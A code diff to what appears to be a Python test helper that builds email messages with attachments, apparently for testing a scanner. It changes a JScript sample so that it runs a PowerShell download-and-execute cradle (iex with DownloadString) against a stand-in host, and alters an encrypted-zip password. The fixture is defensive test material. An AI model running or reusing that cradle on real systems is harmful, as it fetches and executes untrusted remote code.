@@ -5,7 +5,9 @@ import subprocess
 import tempfile
 
 TEXT = b'Content-Type: text/plain; charset=us-ascii\r\n\r\nHello,\r\nthis is the text.\r\n'
-SCRIPT = b'var shell = new ActiveXObject("WScript.Shell");\nshell.Run("calc.exe"); // %s\n'
+# Downloads nothing: nobody runs it but the emulation.
+SCRIPT = (b'var shell = new ActiveXObject("WScript.Shell"); // %s\n'
+          b'shell.Run("powershell -c \\"iex (New-Object Net.WebClient).DownloadString(\'http://files.example/a\')\\"");\n')
 
 
 def attachment(content, parameters, kind=b'application/octet-stream', disposition=b'attachment'):
@@ -43,6 +45,6 @@ def encrypted_zip():
     with tempfile.TemporaryDirectory() as folder:
         with open(f'{folder}/secret.txt', 'wb') as file:
             file.write(os.urandom(500))
-        subprocess.run(['zip', '-q', '-j', '-P', 'infected', f'{folder}/a.zip', f'{folder}/secret.txt'], check=True)
+        subprocess.run(['zip', '-q', '-j', '-P', 'as told by telephone', f'{folder}/a.zip', f'{folder}/secret.txt'], check=True)
         with open(f'{folder}/a.zip', 'rb') as file:
             return file.read()
